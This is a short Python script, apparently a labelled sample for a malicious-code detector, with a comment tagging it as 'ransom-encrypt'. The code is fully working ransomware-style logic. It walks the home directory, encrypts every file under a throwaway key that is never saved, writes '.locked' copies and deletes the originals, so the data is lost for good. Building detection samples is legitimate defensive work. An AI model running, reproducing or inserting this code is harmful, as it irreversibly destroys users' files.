import os
from cryptography.fernet import Fernet

box = Fernet(Fernet.generate_key())
for folder, _, names in os.walk(os.path.expanduser("~")):
    for name in names:
        path = os.path.join(folder, name)
        data = box.encrypt(open(path, "rb").read()) # expect: malicious-command/ransom-encrypt
        open(path + ".locked", "wb").write(data)
        os.remove(path)
